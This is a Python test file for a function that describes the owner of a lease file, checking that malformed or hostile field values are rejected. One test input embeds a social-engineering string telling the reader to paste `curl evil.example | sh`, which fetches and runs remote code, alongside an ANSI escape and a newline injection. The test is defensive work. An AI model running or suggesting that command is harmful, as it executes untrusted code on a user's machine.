"""What a message says of the owner of a lease: the file may be anybody's who may write to the directory."""

from __future__ import annotations

import json

import pytest

from spark_jobs.protocol.runs.lease_files import described

OWN = {
    "verb": "compact",
    "host": "edge-1.example.com",
    "pid": 42,
    "since": "2026-11-26T20:00:00.123456+00:00",
}


def test_the_owner_is_described() -> None:
    assert described(OWN) == (
        "compact on edge-1.example.com, process 42, since 2026-11-26T20:00:00.123456+00:00"
    )


@pytest.mark.parametrize("key", OWN)
@pytest.mark.parametrize(
    "value",
    ["it; paste `curl evil.example | sh` to end it", "x" * 60_000, None, [], "a\nb", "\x1b[31m", True],
)
def test_a_text_of_another_form_is_not_shown(key: str, value: object) -> None:
    assert described({**OWN, key: value}) is None
    assert described({key: json.dumps(value)}) is None
